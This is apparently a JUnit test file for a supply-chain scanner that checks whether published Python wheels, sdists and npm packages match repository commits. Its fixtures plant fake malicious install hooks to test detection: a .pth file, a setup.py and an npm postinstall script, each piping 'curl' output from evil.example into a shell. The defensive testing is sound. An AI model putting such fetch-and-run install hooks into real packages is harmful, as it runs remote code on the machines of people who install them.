package dev.divergence.scan;

import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.flatProject;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Classifier;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Trees;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.RefMethod;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import dev.divergence.registry.npm.NpmSupport;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A release that matches no commit (the attacker rewrote every file, or published code the repository never held)
 * must not read as "could not tell": what runs without being named is judged from the artifact alone, and a
 * rewrite that only changes line endings does not hide the commit.
 */
class UnmatchedReleaseTest {

    @TempDir
    Path dir;

    private static final String SETUP = "from setuptools import setup\nsetup()\n";

    private static SortedMap<String, byte[]> crlf(SortedMap<String, byte[]> tree) {
        SortedMap<String, byte[]> out = new TreeMap<>();
        tree.forEach((k, v) -> out.put(k, new String(v, StandardCharsets.UTF_8).replace("\n", "\r\n")
                .getBytes(StandardCharsets.UTF_8)));
        return out;
    }

    @Test
    void aReleaseRewrittenWithCrlfIsComparedWithTheCommitItsNormalisedFilesMatch() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "setup.py", SETUP);
            String c1 = w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            w.publish("1.0.0", tree, Trees.under(tree, ""));
            // 1.0.1, untagged: every file CRLF (Python runs it unchanged), plus a .pth that runs at every start.
            SortedMap<String, byte[]> wheel = crlf(Trees.without(Trees.under(tree, ""), "setup.py", "tests/test_core.py",
                    ".github/workflows/ci.yml", "README.md", "pyproject.toml", "setup.cfg"));
            wheel.put("demo_init.pth", "import os; os.system('curl -s https://evil.example/i | sh')\r\n"
                    .getBytes(StandardCharsets.UTF_8));
            w.publish("1.0.1", crlf(tree), wheel);
            ReleaseReport r = w.scan("1.0.1");
            assertEquals(RefMethod.BLOB_OVERLAP, r.ref().method());
            assertEquals(c1, r.ref().commit().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().contains("line-ending normalisation of 10 CRLF text file(s)"),
                    r.ref().note().orElseThrow());
            ArtifactReport whl = artifact(r, ".whl");
            FileDivergence pth = row(whl, "demo_init.pth");
            assertEquals(FileStatus.PHANTOM, pth.status());
            assertTrue(pth.highRisk());
            assertEquals(FileStatus.MATCH_NORMALIZED, row(whl, "demo/core.py").status());
            assertEquals(List.of("demo_init.pth"), whl.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aReleaseMatchingNoCommitIsJudgedForWhatRunsWithoutASource() throws Exception {
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "setup.py", SETUP);
            w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            // Nothing of 1.0.1 is in the repository, and no tag names it.
            SortedMap<String, byte[]> sdist = files(
                    "setup.py", "import os\nos.system('curl -s https://evil.example/i | sh')\n" + SETUP,
                    "evil/__init__.py", "X = 1\n");
            SortedMap<String, byte[]> wheel = files(
                    "evil/__init__.py", "X = 1\n",
                    "evil_paths.pth", "/opt/evil/lib\n",
                    "evil_init.pth", "import evil\n");
            w.publish("1.0.1", sdist, wheel);
            ReleaseReport r = w.scan("1.0.1");
            assertEquals(RefMethod.NONE, r.ref().method());
            ArtifactReport sd = artifact(r, ".tar.gz");
            FileDivergence setup = row(sd, "demo-1.0.1/setup.py");
            assertEquals(FileStatus.UNCOMPARED, setup.status());
            assertEquals(Classifier.NO_COMMIT_RUNS, setup.ruleId());
            assertTrue(setup.riskFlags().containsAll(List.of(RiskFlag.INSTALL_SCRIPT, RiskFlag.DYNAMIC_EXEC)));
            assertEquals(List.of("demo-1.0.1/setup.py"), sd.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, sd.verdict());
            ArtifactReport whl = artifact(r, ".whl");
            assertEquals(List.of("evil_init.pth"), whl.highRiskPaths());
            assertTrue(row(whl, "evil_init.pth").riskFlags().contains(RiskFlag.PTH_EXECUTES));
            assertEquals(Classifier.NO_COMMIT, row(whl, "evil_paths.pth").ruleId(), "a path line runs nothing");
            assertFalse(row(whl, "evil/__init__.py").highRisk());
            assertEquals(Verdict.HIGH_RISK, whl.verdict());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anNpmReleaseMatchingNoCommitWithAnInstallScriptIsHighRiskAndWithoutOneStaysNoSource() throws Exception {
        GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"));
        git.commit(files("package.json", "{\"name\": \"widget\", \"version\": \"1.0.0\"}\n", "index.js",
                "module.exports = 1;\n"), "1.0.0", Instant.parse("2026-01-01T00:00:00Z"));
        git.tag("v1.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.1", files("package.json", "{\"name\": \"widget\", \"version\": \"1.0.1\",\r\n"
                    + "\"scripts\": {\"postinstall\": \"curl -s https://evil.example/i | sh\"}}\r\n",
                    "index.js", "module.exports = 2;\r\n"));
            npm.publish("1.0.2", files("package.json", "{\"name\": \"widget\", \"version\": \"1.0.2\"}\r\n",
                    "index.js", "module.exports = 2;\r\n"));
            npm.write();
            NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
            List<Release> releases = support.registry().releases(PackageId.parse("pkg:npm/widget"));
            ReleaseScanner scanner = ScanWorld.scanner(support, dir);
            ReleaseReport bad = scanner.scan(releases.stream().filter(x -> x.version().equals("1.0.1")).findFirst()
                    .orElseThrow(), Optional.of(git.dir().toString()));
            FileDivergence pj = row(bad.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.UNCOMPARED, pj.status());
            assertEquals(Classifier.NO_COMMIT_RUNS, pj.ruleId());
            assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
            assertEquals(List.of("package/package.json"), bad.artifacts().get(0).highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, bad.verdict());
            ReleaseReport plain = scanner.scan(releases.stream().filter(x -> x.version().equals("1.0.2")).findFirst()
                    .orElseThrow(), Optional.of(git.dir().toString()));
            assertEquals(Verdict.NO_SOURCE, plain.verdict());
            assertEquals(List.of(), plain.artifacts().get(0).highRiskPaths());
        } finally {
            git.close();
        }
    }
}
